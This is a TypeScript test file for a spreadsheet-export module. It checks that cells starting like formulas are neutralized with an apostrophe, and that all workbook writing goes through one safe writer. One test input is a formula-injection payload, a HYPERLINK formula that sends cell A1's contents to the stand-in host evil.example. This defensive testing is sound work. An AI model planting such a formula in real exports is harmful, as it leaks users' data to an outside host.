// Spreadsheet cells that would run as formulas are written as text, in every XLSX motcua writes.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeCellText, writeSafeXlsx } from './xlsx';

const reread = async (bytes: Buffer): Promise<ExcelJS.Workbook> => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
};

describe('XLSX cells', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+84912345678', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])(
    '%j starts like a formula: written with an apostrophe before it', (given) => {
      expect(neutralizeCellText(given)).toBe(`'${given}`);
    },
  );

  it('drops a control character before the formula, then neutralizes it', () => {
    expect(neutralizeCellText('\u0001=1+1')).toBe("'=1+1");
  });

  it.each([['Nguyễn Văn An', 'Nguyễn Văn An'], ['Nguye\u0302\u0303n', 'Nguyễn'], ['a=b', 'a=b']])('%j is written as %j', (given, written) => {
    expect(neutralizeCellText(given)).toBe(written);
  });

  it('never leaves a text that starts like a formula', () => {
    fc.assert(fc.property(fc.string(), (s) => {
      expect(neutralizeCellText(s)).not.toMatch(/^[=+\-@\t\r]/);
    }));
  });

  it('neutralizes every sheet of a workbook, text and rich text, and leaves numbers alone', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Một').addRow(['=1+1', 42, -7, 'bình thường']);
    wb.addWorksheet('Hai').addRow([{ richText: [{ text: '@cmd' }, { text: ' tiếp' }] }, { formula: 'A1*2' }]);
    const back = await reread(await writeSafeXlsx(wb));
    expect(back.getWorksheet('Một')?.getRow(1).values).toEqual([undefined, "'=1+1", 42, -7, 'bình thường']);
    const two = back.getWorksheet('Hai')?.getRow(1);
    expect(JSON.stringify(two?.getCell(1).value)).toContain("'@cmd");
    expect(two?.getCell(2).value).toBe("'=A1*2");
  });

  it('is the only place that writes a workbook (every writer goes through writeSafeXlsx)', () => {
    const root = path.resolve(__dirname, '../..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const full = path.join(dir, name);
        if (statSync(full).isDirectory()) walk(full);
        else if (/\.tsx?$/.test(name) && !/\.test\.tsx?$/.test(name) && full !== path.join(root, 'src/platform/xlsx.ts')
          && /\.xlsx\.write|writeBuffer\(|\.csv\.write/.test(readFileSync(full, 'utf8'))) offenders.push(path.relative(root, full));
      }
    };
    walk(path.join(root, 'src'));
    expect(offenders).toEqual([]);
  });
});
